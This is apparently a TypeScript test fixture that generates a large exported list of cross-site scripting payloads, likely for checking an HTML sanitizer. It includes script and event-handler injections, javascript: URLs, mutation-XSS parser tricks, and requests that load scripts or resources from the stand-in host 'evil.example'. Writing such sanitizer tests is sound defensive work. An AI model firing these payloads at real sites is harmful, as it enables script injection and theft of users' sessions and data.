/** What a payload does if it runs: both are noticed. */
const RUN = 'alert(1)'
export const EVIL_HOST = 'evil.example'
const EVIL = `//${EVIL_HOST}/a`

const IMG = `<img src=x onerror=${RUN}>`

const scripts = [
  `<script>${RUN}</script>`,
  `<ScRiPt >${RUN}</sCrIpT>`,
  `<script/x>${RUN}</script\n>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script src="${EVIL}.js"></script>`,
  `<script type=module>import('${EVIL}.js')</script>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href="${EVIL}.js"/></svg>`,
  `<math><script>${RUN}</script></math>`,
  `<svg><script>alert&lpar;1&rpar;</script></svg>`,
  `<script>/*</script>*/${RUN}</script>`,
]

/** Closes what the text may be in, and goes on. */
const closers = [
  ...['"', "'", '`', '">', "'>", '-->', '--!>', ']]>', '*/', '\\"', '</title>', '</textarea>', '</style>', '</script>'],
  ...[
    '</noscript>',
    '</template>',
    '</select>',
    '</iframe>',
    '</svg>',
    '</math>',
    '</pre>',
    '</a>',
    '</li></ul>',
    '</td></tr></table>',
  ],
].map((closer) => closer + IMG)

const elements = [
  ...[
    'img src=x',
    'svg',
    'body',
    'video src=x',
    'audio src=x',
    'video><source',
    'input autofocus',
    'details open',
    'marquee',
  ],
  ...[
    'iframe',
    'object data=x',
    'select autofocus',
    'a href=#',
    'div tabindex=0',
    'p contenteditable',
    'table',
    'link rel=stylesheet href=x',
  ],
  ...[
    'svg><animate attributeName=x dur=1s',
    'x style="animation:a 1s"',
    'form><button',
    'img srcset=x',
    'input type=image src=x',
  ],
]
const handlers = [
  ...[
    'onerror',
    'onload',
    'onfocus',
    'ontoggle',
    'onstart',
    'onbegin',
    'onclick',
    'onmouseover',
    'onpointerenter',
    'onanimationstart',
  ],
  ...['OnErRoR', 'onloadstart', 'oninput'],
]
const separators = [' ', '/', '\t', '\n', '\f', '\r']
const quotedRuns = [RUN, `"${RUN}"`, `'${RUN}'`, '&#97;lert(1)', '"al&#x65;rt(1)"', 'alert`1`']

/** Every element with some handlers, and every handler, separator and spelling with some elements. */
const handled = elements.flatMap((element, row) =>
  handlers
    .filter((_, column) => (row + column) % 3 === 0)
    .map((handler, column) => {
      const separator = separators[(row + column) % separators.length]
      return `<${element}${separator}${handler}=${quotedRuns[(row * 5 + column) % quotedRuns.length]}>x`
    }),
)

const scriptUrls = [
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
    `java\tscript:${RUN}`,
    `java\nscript:${RUN}`,
  ],
  ...[
    `java&#10;script:${RUN}`,
    `&#106;avascript:${RUN}`,
    `&#x6a&#x61vascript:${RUN}`,
    `javascript&colon;${RUN}`,
    `javascript&#0058;${RUN}`,
  ],
  ...[
    `data:text/html,<script>${RUN}</script>`,
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    `vbscript:${RUN}`,
  ],
  ...[`javascript://%0a${RUN}`, `javascript:/*//*/${RUN}`, `feed:javascript:${RUN}`, `view-source:javascript:${RUN}`],
]
const urlElements = [
  ...[(url: string) => `<a href="${url}">x</a>`, (url: string) => `<iframe src="${url}"></iframe>`],
  ...[
    (url: string) => `<form action="${url}"><button>x</button></form>`,
    (url: string) => `<form><button formaction="${url}">x</button></form>`,
  ],
  ...[
    (url: string) => `<object data="${url}"></object>`,
    (url: string) => `<embed src="${url}">`,
    (url: string) => `<img src="${url}">`,
  ],
  ...[
    (url: string) => `<svg><a xlink:href="${url}"><text y=9>x</text></a></svg>`,
    (url: string) => `<math href="${url}">x</math>`,
  ],
  ...[(url: string) => `<map><area href="${url}"></map>`, (url: string) => `<base href="${url}">`],
  ...[(url: string) => `<svg><a><animate attributeName=href values="${url}"/><text y=9>x</text></a></svg>`],
]
const addressed = urlElements.flatMap((element, row) =>
  scriptUrls.filter((_, column) => row === 0 || (row + column) % 4 === 0).map((url) => element(url)),
)

/** Content that a parser reads in one way and a browser, which reads it again, in another. */
const outer = [
  'svg',
  'math',
  'svg><desc',
  'svg><foreignObject',
  'math><mtext',
  'math><mtext><table><mglyph',
  'form><math><mtext></form><form><mglyph',
]
const raw = ['style', 'title', 'xmp', 'noembed', 'noframes', 'textarea', 'noscript', 'iframe', 'template', 'plaintext']
const mutations = [
  ...outer.flatMap((element) => raw.map((inner) => `<${element}><${inner}><a title="</${inner}>${IMG}">x`)),
  ...raw.map((element) => `<${element}><!--</${element}>${IMG}-->x`),
  `<!-->${IMG}-->`,
  `<!--!>${IMG}-->`,
  `<!--${'-'.repeat(3)}!>${IMG}`,
  `<!--<img src="--><img src=x onerror=${RUN}//">`,
  `<![CDATA[>${IMG}]]>`,
  `<?xml >${IMG}?>`,
  `<!DOCTYPE x>${IMG}`,
  `<!--[if gte IE 4]>${IMG}<![endif]-->`,
  `<svg></p><style><a id="</style>${IMG}">`,
  `<a title="<!--">${IMG}`,
  `<p title='</p>${IMG}'>x</p>`,
  `<select><style></select>${IMG}</style>`,
  `<table><caption><svg><title><table><style><!--</style>${IMG}-->`,
]

const requests = [
  `<link rel=stylesheet href="${EVIL}.css">`,
  `<style>@import '${EVIL}.css'</style>`,
  `<style>*{background:url(${EVIL})}</style>`,
  `<div style="background:url(${EVIL})">x</div>`,
  `<table background="${EVIL}"><tr><td>x`,
  `<iframe src="${EVIL}"></iframe>`,
  `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=${EVIL}">`,
  `<base href="${EVIL}/"><img src=b>`,
  `<link rel=prefetch href="${EVIL}">`,
  `<svg><use href="${EVIL}#a"/></svg>`,
  `<svg><image href="${EVIL}"/></svg>`,
  `<form action="${EVIL}"><input autofocus onfocus=this.form.submit()></form>`,
  `<audio src="${EVIL}" autoplay></audio>`,
  `<portal src="${EVIL}"></portal>`,
]

const others = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<div data-block='{"type":"raw","data":{"html":"${IMG}"}}'>x</div>`,
  `<div data-block-type="checklist" data-block="&quot;>${IMG}">x</div>`,
  `<p dir="\u202e" lang='"${IMG}'>x</p>`,
  `<a href="#" target="_blank" onclick=${RUN} class="link-card">x</a>`,
  `<form id=location><input name=href></form><a id=document name=cookie href=x>x</a>`,
  `<img name=getElementById><img id=data>`,
  `</script>${IMG}<script type="application/json" id="data">{}`,
  `\u2028${RUN}\u2029`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `\ufeff<\0script>${RUN}</script>`,
  `<img src=x:x onerror\u00a0=${RUN}>`,
  `＜script＞${RUN}＜/script＞`,
]

/** Shapes of the well-known collections of attacks on HTML, each in its own words. */
export const PAYLOADS = [...scripts, ...closers, ...handled, ...addressed, ...mutations, ...requests, ...others]
